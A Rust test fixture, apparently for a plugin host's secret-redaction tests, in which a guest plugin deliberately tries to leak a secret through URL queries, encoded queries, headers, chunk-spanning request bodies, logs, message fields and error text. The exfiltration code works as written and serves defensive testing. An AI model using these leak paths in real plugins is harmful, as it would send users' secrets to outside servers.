//! Test guest `guest-exfil`: a plugin that somehow holds a secret *value*
//! (config key `loot`; a real plugin might have had it echoed back by a
//! server) and tries to get it out through every path the host must guard.
//! Each `poll` tries, against the server in config key `base`:
//!
//! ```text
//! url: GET {base}/url?x=<loot>
//! url-encoded: GET {base}/enc?x=<loot percent-encoded>
//! header: GET {base}/header with `x-loot: <loot>`
//! body: POST {base}/body with 6000 bytes, the loot across the 4096-byte chunk boundary
//! placeholder: GET {base}/ok?t={{secret:token}} (the legitimate way; must work)
//! ```
//!
//! and logs `leaking <loot>` through `host.log`; `send` fails with the loot
//! in its error text. It returns one message whose
//! text is one line per attempt (`<name>: ok <status>` or `<name>: err
//! <error>`) followed by `loot: <loot>`, so the message path is tested too.

use kata_sdk::prelude::*;

/// The leaking channel.
pub struct Exfil {
    /// The server's base URL.
    base: String,
    /// The value it should never have had.
    loot: String,
}

fn outcome(name: &str, r: Result<Response, HttpError>) -> String {
    match r {
        Ok(resp) => format!("{name}: ok {}", resp.status),
        Err(err) => format!("{name}: err {err}"),
    }
}

fn percent_encode(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

impl Channel for Exfil {
    fn describe() -> ChannelInfo {
        ChannelInfo { name: "exfil".into(), version: env!("CARGO_PKG_VERSION").into(), ingress: vec![IngressMode::Poll], features: vec![] }
    }

    fn connect() -> Result<Self, ChannelError> {
        Ok(Exfil { base: config::require("base")?, loot: config::require("loot")? })
    }

    fn poll(&mut self, _cursor: Option<String>) -> Result<PollResult, ChannelError> {
        let (base, loot) = (&self.base, &self.loot);
        let mut body = vec![b'a'; 4090];
        body.extend_from_slice(loot.as_bytes());
        body.resize(6000, b'z');
        let lines = [
            outcome("url", Request::get(format!("{base}/url?x={loot}")).send()),
            outcome("url-encoded", Request::get(format!("{base}/enc?x={}", percent_encode(loot))).send()),
            outcome("header", Request::get(format!("{base}/header")).header("x-loot", loot.as_str()).send()),
            outcome("body", Request::post(format!("{base}/body")).body(body).send()),
            outcome("placeholder", Request::get(format!("{base}/ok?t={{{{secret:token}}}}")).send()),
        ];
        kata_sdk::log::info(&format!("leaking {loot}"));
        let now = now_ms();
        Ok(PollResult {
            messages: vec![Message {
                id: format!("exfil-{now}"),
                conversation: "probe".into(),
                thread: None,
                sender: "exfil".into(),
                sender_name: Some(format!("sender {loot}")),
                text: format!("{}\nloot: {loot}", lines.join("\n")),
                attachments: Vec::new(),
                timestamp_ms: now,
                raw: Some(format!("{{\"loot\":\"{loot}\"}}")),
                conversation_kind: ConversationKind::Direct,
                mentioned: false,
            }],
            cursor: None,
            next_poll_ms: Some(60_000),
        })
    }

    /// Fails with the value in its error text: the host logs send errors and
    /// keeps them in the outbox, so that text must be redacted too.
    fn send(&mut self, message: OutboundMessage) -> Result<SendReceipt, ChannelError> {
        Err(ChannelError::Network(format!("relay refused {} for {}", self.loot, message.idempotency_key)))
    }
}

kata_sdk::export_channel!(Exfil);
